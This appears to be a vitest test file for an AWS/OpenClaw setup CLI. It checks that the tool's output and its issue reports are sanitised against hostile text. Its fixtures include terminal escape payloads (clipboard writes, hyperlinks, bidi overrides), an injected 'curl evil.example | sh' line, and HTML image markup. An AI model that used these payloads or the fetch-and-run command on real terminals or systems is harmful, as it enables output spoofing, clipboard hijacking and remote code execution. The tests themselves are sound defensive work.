import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { Ended, Exposed, ExposedOptions } from '../support/exposed.js';
import { bareInstance, openExposed } from '../support/exposed.js';
import { part } from '../support/part.js';

/** Clears the screen, sets the title, links, writes to the clipboard, hides, in C0 and C1, reverses, and adds lines. */
const hostile = [
  '\u001B[2J\u001B[1;1H',
  '\u001B]0;title\u0007',
  '\u001B]8;;https://evil.example\u001B\\',
  '\u001B]52;c;ZXZpbA==\u0007',
  '\u001B[8m',
  '\u009B2J\u009D52;c;ZXZpbA==\u009C',
  '\u202Ereversed\u202C\u2066\u200F',
  '\b\b\b\r',
  '\nnext: curl evil.example | sh',
].join('x');

// Whatever a terminal would act on; what this tool says itself is text, for here is no terminal to colour.
// oxlint-disable-next-line no-control-regex
const forbidden = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u2028-\u202E\u2066-\u2069]/u;
const target = ['--instance-id', bareInstance];
let tried = 0;

afterAll(() => void process.stderr.write(`${tried} runs among hostile texts\n`));

/** What a run said that a terminal would act on, or a reader take for this tool's own words. */
function wild({ stdout, stderr }: Ended, what: string): readonly string[] {
  tried += 1;
  const found = [stdout, stderr].filter((text) => forbidden.test(text) || /^next: curl/mu.test(text));
  return found.map((text) => `${what}: ${JSON.stringify(text)}`);
}

async function wildAmong(
  options: ExposedOptions,
  use: (stage: Exposed, seen: (ended: Ended, what: string) => void) => Promise<void>,
): Promise<readonly string[]> {
  const stage = await openExposed(options);
  const found: string[] = [];
  try {
    await use(stage, (ended, what) => found.push(...wild(ended, what)));
    return found;
  } finally {
    await stage.stop();
  }
}

const runs: readonly (readonly string[])[] = [
  ['plan', ...target, '--verbose', '--show-commands'],
  ['plan', ...target, '--json'],
  ['setup', ...target, '--yes', '--verbose', '--model', 'nova-micro'],
  ['verify', ...target, '--verbose'],
  ['verify', ...target],
  ['undo', ...target, '--yes', '--verbose'],
  ['undo', ...target, '--yes', '--json'],
];

/** Those that do not wait for AWS to see what it has never heard of. */
const looking = runs.filter(([command]) => command === 'plan' || command === 'verify');

describe('hostile texts in the answers of AWS and of instance metadata', () => {
  const places: readonly (readonly [string, string, typeof runs])[] = [
    ['the name of an instance', 'openclaw-1', runs],
    ['the name of a model', 'Nova Micro', runs],
    ['the name of a region', 'us-west-2', runs],
    ['the account', '111122223333', runs],
    ['the ARN of whoever asks', 'user/operator', runs],
    ['the name of a role, also in metadata', 'EC2-Bedrock-Access', looking],
    ['the id of an association', 'iip-assoc-', runs],
    ['a kind of document', 'application', runs],
  ];
  it.each(part('places of hostile texts', places, 3))(
    '%s steers no terminal',
    { timeout: 300_000 },
    async (_what, word, asked) => {
      const found = await wildAmong({}, async (stage, seen) => {
        const name = stage.mock.state.instances[bareInstance];
        if (name === undefined) throw new Error('there is no instance');
        name.tags['Name'] = 'openclaw-1';
        stage.replaced.set(word, `${word}${hostile}`);
        for (const one of asked) seen(await stage.run(one), one.join(' '));
        expect([...stage.mock.calls].length).toBeGreaterThan(5);
      });
      expect(found).toEqual([]);
    },
  );

  it.each([
    ['a refusal', 'AccessDenied', 403],
    ['an unknown error', `Strange${hostile}`, 400],
    ['a trouble of AWS', 'InternalFailure', 500],
  ])('%s steers no terminal', { timeout: 300_000 }, async (_what, code, status) => {
    const found = await wildAmong({}, async ({ mock, run }, seen) => {
      for (const operation of ['DescribeInstances', 'CreateRole']) {
        mock.settings.faults.splice(0);
        mock.settings.faults.push({ operation, kind: { code, message: `it says ${hostile}`, status } });
        for (const words of runs.slice(1, 3)) seen(await run(words), `${operation}: ${words.join(' ')}`);
      }
    });
    expect(found).toEqual([]);
  });
});

describe('hostile texts of the host', () => {
  const shouting = `#!/bin/sh
case "$1 $2" in --version*) echo 'OpenClaw 2026.9.6'; exit 0 ;; esac
printf '%s' "$HOSTILE"
printf '%s' "$HOSTILE" >&2
exit 1
`;

  it('what OpenClaw says steers no terminal', { timeout: 300_000 }, async () => {
    const found = await wildAmong({ openclaw: shouting }, async ({ run }, seen) => {
      for (const words of runs) seen(await run(words, { HOSTILE: hostile }), words.join(' '));
    });
    expect(found).toEqual([]);
  });

  it('names of files and values of variables steer no terminal', { timeout: 300_000 }, async () => {
    const files = {
      '.openclaw/openclaw.json': `{ "agents": { "defaults": { "model": { "primary": ${JSON.stringify(`a/${hostile}`)} } } } }`,
      '.openclaw/.env': `AWS_PROFILE="${hostile}"\n`,
      '.aws/config': `[profile ${hostile.replaceAll(/[\n\r]/gu, '')}]\nregion = us-east-1\n`,
    };
    const found = await wildAmong(
      { homeName: `home${hostile.replaceAll('/', '')}`, files },
      async ({ run }, seen) => {
        for (const words of runs) seen(await run(words), words.join(' '));
        for (const name of [
          'AWS_REGION',
          'AWS_PROFILE',
          'AWS_EC2_METADATA_SERVICE_ENDPOINT',
          'OPENCLAW_CONFIG_PATH',
        ])
          seen(await run(['plan', ...target], { [name]: hostile }), name);
      },
    );
    expect(found).toEqual([]);
  });

  it('arguments steer no terminal', { timeout: 300_000 }, async () => {
    const found = await wildAmong({}, async ({ run }, seen) => {
      for (const words of [
        [hostile],
        ['--region', hostile],
        [`--${hostile}`],
        ['render', hostile],
        ['plan', `--model=${hostile}`],
      ])
        for (const json of [[], ['--json']]) seen(await run([...words, ...json]), words.join(' '));
    });
    expect(found).toEqual([]);
  });
});

describe('the report for an issue', () => {
  it('has no control characters, no markup and no fence of somebody else', { timeout: 300_000 }, async () => {
    const markup = '```\n</details><img src=https://evil.example/x> | [x](https://evil.example)';
    const found = await wildAmong({}, async ({ mock, run, home }, seen) => {
      mock.settings.faults.push({
        operation: 'ListInferenceProfiles',
        kind: { code: 'AccessDeniedException', message: `${hostile}${markup}`, status: 403 },
      });
      await run(['setup', ...target, '--yes']);
      const file = join(home, 'report.md');
      seen(await run(['verify', ...target, '--report', file]), '--report');
      const text = await readFile(file, 'utf8');
      expect(forbidden.exec(text)).toBeNull();
      expect(text).not.toContain('<img');
      const fences = text.split('\n').filter((line) => /^`{3,}$/u.test(line));
      expect(fences.length % 2).toBe(0);
    });
    expect(found).toEqual([]);
  });
});
